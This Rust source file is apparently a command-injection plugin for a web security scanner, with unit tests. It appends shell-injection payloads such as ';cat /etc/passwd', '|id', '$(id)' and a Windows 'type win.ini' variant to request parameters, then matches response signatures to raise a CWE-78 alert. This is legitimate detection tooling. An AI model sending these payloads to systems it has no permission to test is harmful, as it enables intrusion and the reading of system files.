//! OS command injection

use async_trait::async_trait;
use regex::Regex;
use std::sync::OnceLock;

use super::new_evidence;
use crate::scanner::active::{ActivePlugin, AttackContext, PluginCategory, PluginError};
use crate::scanner::variant::{InjectionPoint, Variant};
use crate::scanner::{Alert, Confidence, Risk};

/// Appended to the original value
const CMD_PAYLOADS: &[&str] = &[
    ";cat /etc/passwd",
    "|id",
    "$(id)",
    "&type %SYSTEMROOT%\\win.ini",
    "`id`",
    "&&cat /etc/passwd",
    "|type %SYSTEMROOT%\\win.ini",
    "\ncat /etc/passwd\n",
];

const OUTPUT_SIGNATURES: &[&str] = &[r"uid=\d+\([\w.-]+\)\s+gid=\d+", r"root:.*:0:0:", r"\[fonts\]"];

fn signatures() -> &'static [Regex] {
    static SIGNATURES: OnceLock<Vec<Regex>> = OnceLock::new();
    SIGNATURES.get_or_init(|| OUTPUT_SIGNATURES.iter().filter_map(|p| Regex::new(p).ok()).collect())
}

/// Shell metacharacters that run a second command
pub struct CommandInjectionPlugin;

#[async_trait]
impl ActivePlugin for CommandInjectionPlugin {
    fn key(&self) -> &'static str {
        "command_injection"
    }

    fn plugin_id(&self) -> u32 {
        90020
    }

    fn priority(&self) -> u32 {
        40
    }

    fn category(&self) -> PluginCategory {
        PluginCategory::Injection
    }

    async fn attack_point(
        &self,
        ctx: &AttackContext,
        variant: &dyn Variant,
        point: &InjectionPoint,
    ) -> Result<Vec<Alert>, PluginError> {
        let base = ctx.base_body();

        for payload in ctx.payloads(CMD_PAYLOADS) {
            let value = format!("{}{}", point.value, payload);
            let mut attack = ctx.inject(variant, point, &value, false)?;
            ctx.send(&mut attack).await?;

            let body = attack.response_body_text();
            if let Some(evidence) = new_evidence(signatures(), &body, &base) {
                return Ok(vec![ctx
                    .alert(4, self.plugin_id(), Risk::High, Confidence::Medium, &attack)
                    .with_param(&point.name)
                    .with_attack(&value)
                    .with_evidence(evidence)
                    .with_cwe(78)
                    .with_wasc(31)]);
            }
        }

        Ok(Vec::new())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::active::attacks::test_support::{attack_query, context, query_value};

    #[tokio::test]
    async fn test_id_output_in_response() {
        let ctx = context("http://example.test/ping?host=10.0.0.1", "PING 10.0.0.1", |msg| {
            let host = query_value(msg, "host");
            if host.ends_with("|id") {
                (200, "PING 10.0.0.1\nuid=33(www-data) gid=33(www-data) groups=33(www-data)".to_string())
            } else {
                (200, "PING 10.0.0.1".to_string())
            }
        });
        let alerts = attack_query(&CommandInjectionPlugin, &ctx).await;

        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].name, "Remote OS Command Injection");
        assert_eq!(alerts[0].attack.as_deref(), Some("10.0.0.1|id"));
        assert_eq!(alerts[0].evidence.as_deref(), Some("uid=33(www-data) gid=33"));
    }

    #[tokio::test]
    async fn test_plain_echo_is_clean() {
        let ctx = context("http://example.test/ping?host=a", "", |msg| {
            (200, format!("pinging {}", query_value(msg, "host")))
        });
        assert!(attack_query(&CommandInjectionPlugin, &ctx).await.is_empty());
    }
}
